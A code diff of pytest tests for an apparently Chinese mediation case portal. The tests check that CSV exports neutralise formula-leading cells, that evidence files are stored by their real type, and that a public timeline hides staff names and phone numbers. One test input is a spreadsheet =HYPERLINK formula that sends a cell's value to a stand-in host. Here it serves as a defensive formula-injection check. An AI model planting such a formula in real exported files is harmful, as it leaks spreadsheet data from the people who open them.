@@ -25,7 +25,7 @@ PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n" + b" " * 100
 
 @pytest.mark.parametrize(
     "name",
-    ['=HYPERLINK("http://example.invalid/?x="&A1,"点击")', "=1+2", "+86", "-1", "@SUM(A1)", "\tx"],
+    ['=HYPERLINK("http://example.invalid/?x="&A1,"点击")', "=1+2", "+86", "-1", "@SUM(A1)"],
 )
 def test_a_party_name_that_is_a_formula_is_exported_as_text(client, supervisor, name):
     from cases.models import PartySide
@@ -38,6 +38,12 @@ def test_a_party_name_that_is_a_formula_is_exported_as_text(client, supervisor, 
 
     rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
     assert rows[1][6] == "'" + name
+
+
+def test_a_cell_starting_with_a_tab_or_carriage_return_is_neutralised_too():
+    from zhanjiang_portal.spreadsheets import safe_row
+
+    assert safe_row(["\tx", "\r=1", "陈某", 12]) == ["'\tx", "'\r=1", "陈某", 12]
 
 
 def test_evidence_is_stored_and_served_under_the_extension_of_its_real_type(client, supervisor):
@@ -73,7 +79,8 @@ def test_the_public_timeline_shows_no_staff_text_or_full_name(client, supervisor
     body = response.content.decode()
     assert "已更换调解员。" in body
     assert "13912345678" not in body
-    assert "陈海燕" not in body and "林小明" not in body
+    assert "陈海燕" not in body
+    assert "林小明" not in body
     assert f"{target.last_name}调解员" in body
     texts = " ".join(event["text"] for event in api.json()["events"])
     assert "13912345678" not in texts
